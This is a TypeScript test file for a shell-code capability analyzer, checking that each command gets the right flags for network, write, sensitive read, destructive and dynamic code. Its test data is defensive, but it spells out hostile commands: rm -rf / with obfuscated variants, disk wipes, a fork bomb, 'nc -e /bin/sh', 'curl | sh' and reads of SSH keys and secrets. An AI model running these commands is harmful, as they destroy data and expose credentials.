// What shell source may do, as a table: each row is code and the capabilities that must, and alone may, be found.

import { describe, expect, it } from 'vitest';
import { analyzeCode } from './index.ts';

/** Capabilities in short: n network, w write, r sensitive read, s subprocess, i install, e environment, d dynamic, x destructive. */
const SHORT: Readonly<Record<string, string>> = {
  network: 'n',
  filesystem_write: 'w',
  filesystem_read_sensitive: 'r',
  subprocess: 's',
  package_install: 'i',
  environment_read: 'e',
  dynamic_code: 'd',
  destructive: 'x',
};

function found(code: string): string {
  const facts = analyzeCode('sh', code);
  if (facts.kind === 'unknown') return facts.why;
  const names = Object.keys(SHORT).filter((name) => facts.capabilities.some((found) => found === name));
  return names.map((name) => SHORT[name]).join('') + (facts.complete ? '' : '?');
}

const honest: readonly string[] = [
  'ls -la | grep csv | wc -l',
  'cat data.csv | head -5; echo "rm -rf / is bad"',
  'for f in *.csv; do wc -l "$f"; done',
  'if [ -f a.txt ] && [[ $x > 3 || -z "$y" ]]; then echo yes; else echo no; fi',
  'i=0; while ((i < 10)); do echo $((i + 1)); i=$((i+1)); done',
  'case $1 in a|b) echo ab;; *) echo other;; esac',
  'f() { echo hi; }\nf',
  'python --version',
  'grep -r "curl" . 2>/dev/null',
  'echo hi >&2',
  'cat <<E\ncurl https://a.example\nE',
  "awk '{print $1}' a.txt | sort | uniq -c",
  "sed -n '1,5p' a.txt",
  'cd /work && pwd # curl x',
  'find . -name "*.py"',
  'git status',
  'command -v curl',
];

const rows: readonly (readonly [code: string, expected: string])[] = [
  ['curl https://a.example', 'n'],
  ['curl -o x https://a.example', 'nw'],
  ['wget https://a.example', 'nw'],
  ['/usr/bin/curl a', 'n'],
  ['nc -e /bin/sh a 1', 'n'],
  ['ssh h ls', 'n'],
  ['echo x > /dev/tcp/1.2.3.4/80', 'nw'],
  ['git clone https://a.example/r', 'nw'],
  ['echo x > a', 'w'],
  ['echo x >> a', 'w'],
  ['echo x | tee a', 'w'],
  ['cp a b; mv c d', 'w'],
  ["sed -i 's/a/b/' f", 'w'],
  ['cat /etc/passwd', 'r'],
  ['cat ~/.ssh/id_rsa', 'r'],
  ['cat < .env', 'r'],
  ['printenv', 'e'],
  ['env', 'e'],
  ['echo $AWS_SECRET_ACCESS_KEY', 'e'],
  ['export', 'e'],
  ['pip install x', 'i'],
  ['sudo apt-get install -y x', 'i'],
  ['npm i x', 'i'],
  ['python3 -m pip install x', 'si'],
  ['uv pip install x', 'i'],
  ['rm a', 'w'],
  ['rm -rf /', 'wx'],
  ['rm -r -f /', 'wx'],
  ['sudo rm -fr /', 'wx'],
  ['dd if=/dev/zero of=/dev/sda', 'wx'],
  ['mkfs.ext4 /dev/sda', 'wx'],
  [':(){ :|:& };:', 'x'],
  ['find . -delete', 'wx'],
  ['find . -exec rm -rf {} \\;', 'wsx'],
  ['ls | xargs rm -rf', 'wsx'],
  ['psql -c "DROP TABLE x"', 'nx'],
  // hidden commands
  ["r''m -r'f' /", 'wx'],
  ['r\\m -rf /', 'wx'],
  ["$'\\x72m' -rf /", 'wx'],
  ['x=rm; $x -rf /', 'wx?'],
  ['rm$' + '{IFS}-rf /', 'wx'],
  ['{rm,-rf,/}', 'd?'],
  ['/bin/r? -rf /', 'd?'],
  ['$(echo rm) -rf /', 'd?'],
  ['$UNKNOWN -rf /', 'ed?'],
  ['echo $(curl a)', 'n'],
  ['echo "a `curl a` b"', 'n'],
  ['echo "$(echo "$(curl a)")"', 'n'],
  ['echo $' + '{x:-$(curl a)}', 'n'],
  ['diff <(curl a) b', 'n'],
  ['a=(1 2 $(curl a))', 'n'],
  ['$((curl a) )', 'nd?'],
  ['(cd /; rm -rf x)', 'wx'],
  ['true && { rm -rf x; }', 'wx'],
  ['if true; then rm -rf x; fi', 'wx'],
  ['case a in a) rm -rf x;; esac', 'wx'],
  ['case a in (a) echo;; b) curl a;; esac', 'n'],
  ['f() { rm -rf x; }', 'wx'],
  ['function f { rm -rf x; }', 'wx'],
  ['cat <<E\n$(curl a)\nE', 'n'],
  ["cat <<'E'\n$(curl a)\nE", ''],
  ['nohup timeout 5 nice -n 3 curl a &', 'n'],
  ['env A=1 curl a', 'n'],
  // code for interpreters
  ["sh -c 'curl a'", 'nsd'],
  ['bash -lc "rm -rf x"', 'wsdx'],
  ['curl a | sh', 'nsd?'],
  ['curl a | sudo bash', 'nsd?'],
  ["echo 'rm -rf x' | sh", 'wsdx'],
  ['sh <<E\ncurl a\nE', 'ns'],
  ['cat <<E | sh\ncurl a\nE', 'nsd'],
  ['eval "curl a"', 'nd'],
  ['eval "$x"', 'd?'],
  ["python -c 'import os; os.remove(1)'", 'ws'],
  ['python3 - <<E\nimport requests\nrequests.get(u)\nE', 'ns'],
  ["python <<'E'\nprint(1)\nE", 's'],
  ['curl a | python', 'nsd?'],
  ['python script.py', 's?'],
  ['./run.sh', 's?'],
  ['source ./x', 'd?'],
  ['perl -e "x"', 'sd?'],
  ['unheard-of-program', '?'],
  ['pytest tests', '?'],
  ['sort -o a b', 'w'],
  ['tar c --to-command=sh x', 'w?'],
  ["trap 'curl a' EXIT", 'n'],
  ["alias ls='rm -rf x'", 'wx'],
  ['PATH=.:$PATH ls', '?'],
  // broken
  ['echo "a', '?'],
  ['echo $(a', '?'],
  ['cat <<E\nx', '?'],
];

describe('shell source', () => {
  it.each(honest.map((code) => [code]))('finds nothing in honest code: %j', (code) => {
    expect(found(code)).toBe('');
  });

  it.each(rows)('%j may do %j', (code, expected) => {
    expect(found(code)).toBe(expected);
  });
});
